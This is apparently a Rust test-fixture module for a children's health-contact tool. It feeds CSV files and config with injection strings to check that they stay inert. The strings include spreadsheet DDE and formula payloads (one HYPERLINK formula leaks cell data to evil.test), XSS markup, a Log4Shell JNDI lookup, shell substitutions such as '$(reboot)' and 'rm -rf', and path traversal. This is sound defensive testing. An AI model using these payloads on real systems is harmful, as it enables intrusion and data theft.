//! Texts that are harmless only as long as they stay texts, and areas that have them everywhere.

use std::fmt::Write as _;

use crate::support::Area;

/// Texts that a spreadsheet would run.
pub const FORMULAS: [&str; 14] = [
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\u{ff1d}1+1",
    "\u{ff20}SUM(1)",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    ";=1+1",
    "x\n=1+1",
    "x\t=1+1",
];

/// Texts that a browser would take as markup, or run.
pub const MARKUP: [&str; 16] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "</style><style>*{display:none}",
    "</title><base href=//evil.test>",
    "</bdi></td></tr></table><h1>",
    "<!-- ",
    "--> ]]>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<a href=javascript:alert(1)>x</a>",
    "<svg/onload=alert(1)>",
    "&lt;b&gt; &amp; &#60;b&#62; &nosuch;",
    "url(//evil.test) ; } * { color: red",
];

/// Texts that would move a terminal's cursor, or change the reading direction.
pub const TERMINAL: [&str; 10] = [
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31mred",
    "\u{8}\u{8}\u{8}over\u{7f}",
    "one\ntwo",
    "one\r\nerror: two",
    "\u{202e}desrever\u{202c} x",
    "\u{2066}isolated\u{2069} y",
    "one\u{2028}two\u{2029}three",
    "a\u{200b}b\u{feff}c",
];

/// Texts that a template, a logger or a shell would evaluate, and texts that are merely odd.
pub const OTHER: [&str; 18] = [
    "{{7*7}}",
    "{% raw %}{{x}}{% endraw %}",
    "{{ frame.style | safe }}",
    "{# x #}",
    "${jndi:ldap://evil.test/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%n%x%d",
    "$(reboot)",
    "`reboot`",
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "C:\\CON",
    "|ls; rm -rf",
    "__proto__",
    "\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} \u{1f1ec}\u{1f1e7}",
    "Zo\u{308}e\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{0627}\u{0644}\u{0639}\u{0631}\u{0628}\u{064a}\u{0629}",
];

/// All these texts, and a very long one.
pub fn all() -> Vec<String> {
    let short = FORMULAS.iter().chain(&MARKUP).chain(&TERMINAL).chain(&OTHER).map(|text| (*text).to_owned());
    short.chain(["=<b>long".repeat(2_000)]).collect()
}

/// The same number of harmless texts.
pub fn harmless(like: &[String]) -> Vec<String> {
    (0..like.len()).map(|at| format!("Harmless text {at}")).collect()
}

/// A cell of a CSV file.
pub fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// A basic string of TOML.
pub fn toml(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => out.extend(['\\', c]),
            c if c.is_control() || !c.is_ascii() => {
                let _ = write!(out, "\\U{:08X}", c as u32);
            }
            c => out.push(c),
        }
    }
    out + "\""
}

/// The fields of a contact that are texts, and those of a child.
const OF_CONTACT: [&str; 9] =
    ["service", "provider", "location", "practitioner", "referrer", "family_name", "given_name", "postcode", "school"];
const OF_CHILD: [&str; 12] = [
    "family_name",
    "given_name",
    "sex",
    "ethnicity",
    "postcode",
    "imd_decile",
    "locality",
    "gp_practice",
    "school",
    "household_id",
    "social_worker",
    "date_of_birth",
];

/// The local id of the child that has a text.
pub fn id(text: &str, at: usize) -> String {
    let short: String = text.chars().take(60).collect();
    format!("{} {at}", short.replace(['\r', '\n', ';'], " "))
}

/// The part of a text that can be in a file's name on this system.
pub fn in_name(text: &str) -> String {
    let forbidden =
        |c: char| matches!(c, '/' | '\0') || cfg!(windows) && (c.is_ascii_control() || r#"<>:"\|?*"#.contains(c));
    text.chars().filter(|c| !forbidden(*c)).collect()
}

/// An area in which each text is everywhere that one child can have it: three failed contacts, a child's record, cells
/// that do not parse, records that are rejected; in an extract whose name and header are such texts too.
pub fn area(texts: &[String]) -> Area {
    let word = &texts[0];
    let header = |field: &str| format!("{field} {}", texts[2 % texts.len()]);
    let mut config = format!(
        "organisation = {0}\n[limits]\nmax_rejected = 1.0\n[services]\n{1} = {0}\n[reviews]\nfiles = [\"reviews/*.csv\"]\n",
        toml(&texts[texts.len() - 3]),
        toml("Renamed")
    );
    let mut columns = |sort: &str, name: &str, fields: &[&str]| {
        let _ = write!(
            config,
            "[[{sort}]]\nname = \"{name}\"\nfiles = [\"{name}/*.csv\"]\ndate_format = \"%Y-%m-%d\"\nid_scope = {}\n\
             [{sort}.columns]\n",
            toml(&format!("={}", word.replace(['/', ';'], " ")))
        );
        for field in fields {
            let _ = writeln!(config, "{field} = {}", toml(&header(field)));
        }
    };
    let mut of_contact = vec!["contact_id", "nhs_number", "local_id", "date", "time", "kind", "sector", "outcome"];
    of_contact.extend(OF_CONTACT);
    columns("contacts", "clinic", &of_contact);
    let mut of_child = vec!["nhs_number", "local_id"];
    of_child.extend(OF_CHILD);
    columns("children", "register", &of_child);
    let _ = writeln!(config, "[children.factors]\nlooked_after = {}", toml(&header("looked_after")));
    let area = Area::new(&config);
    let line = |cells: &[String]| cells.iter().map(|cell| quoted(cell)).collect::<Vec<_>>().join(",") + "\n";
    let heads = |fields: &[&str]| line(&fields.iter().map(|field| header(field)).collect::<Vec<_>>());

    let mut children = heads(&[&of_child[..], &["looked_after"]].concat());
    for (at, text) in texts.iter().enumerate() {
        let mut contacts = heads(&of_contact);
        let mut contact = |number: usize, [date, time, kind, sector, outcome]: [&str; 5]| {
            let mut cells = vec![format!("{text}{at}-{number}"), text.clone(), id(text, at)];
            cells.extend([date, time, kind, sector, outcome].map(String::from));
            cells.extend(OF_CONTACT.iter().map(|_| text.clone()));
            contacts.push_str(&line(&cells));
        };
        for (number, month) in ["03", "05", "07"].iter().enumerate() {
            let date = format!("2026-{month}-0{}", at % 9 + 1);
            contact(number, [&date, "", "", "", "was_not_brought"]);
        }
        contact(3, ["2026-08-01", text, "", "", "pending"]);
        contact(4, [text, "", "", "", "seen"]);
        contact(5, ["2026-09-01", "", text, "", "seen"]);
        contact(6, ["2026-09-02", "", "", text, "seen"]);
        contact(7, ["2026-09-03", "", "", "", text]);
        let name: String = in_name(text).chars().take(40).collect();
        let name = name.trim_start_matches('.');
        area.write(&format!("clinic/{name}{at}.csv"), contacts);
        let mut cells = vec![String::new(), id(text, at)];
        cells.extend(OF_CHILD.iter().map(|_| text.clone()));
        cells.push(text.clone());
        children.push_str(&line(&cells));
    }
    area.write("register/children.csv", children);
    area
}
